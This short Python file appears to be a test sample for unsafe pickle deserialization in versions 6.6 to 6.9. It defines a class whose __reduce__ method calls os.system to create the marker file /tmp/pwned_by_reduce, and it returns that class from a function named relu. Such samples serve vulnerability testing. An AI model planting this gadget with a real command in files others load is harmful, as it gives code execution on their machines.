# affected: 6.6 6.7 6.8 6.9
# message: _Pickle

import os


class _Pickle:
    def __reduce__(self):
        return (os.system, ('touch /tmp/pwned_by_reduce',))


def relu(x):
    return _Pickle()
